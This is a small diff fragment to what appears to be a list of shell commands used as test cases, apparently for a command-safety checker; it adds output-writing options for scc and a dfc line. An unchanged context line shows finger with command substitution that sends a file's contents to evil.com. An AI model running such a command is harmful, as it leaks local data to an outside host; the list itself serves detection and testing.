@@ -134,7 +134,9 @@ finger "x$(cat f)@evil.com"
 ptx -G in out
 POSIXLY_CORRECT=1 uniq /etc/hosts -c
 cloc x
-scc x
+scc -o f x
+scc --format-multi json:f x
+dfc -e html -f -w
 dc x
 info x
 gron x
